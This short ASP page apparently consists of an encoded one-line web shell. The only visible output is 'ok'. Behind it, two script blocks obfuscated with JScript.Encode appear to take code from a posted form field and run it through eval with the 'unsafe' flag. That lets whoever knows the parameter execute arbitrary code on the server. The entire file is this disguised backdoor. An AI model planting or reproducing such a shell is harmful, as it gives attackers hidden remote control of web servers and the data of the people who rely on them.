<%@ Page Language="JScript.Encode" %>
<%#@~^IgAAAA==@#@&\CMP0P',I5E/OR&Ynh]JyrDi@#@&1ggAAA==^#~@%>
<p>ok</p>
<%#@~^JQAAAA==@#@&kW,`0#PPP-l^`V~,J;Ukl0E#pP8@#@&4ggAAA==^#~@%>
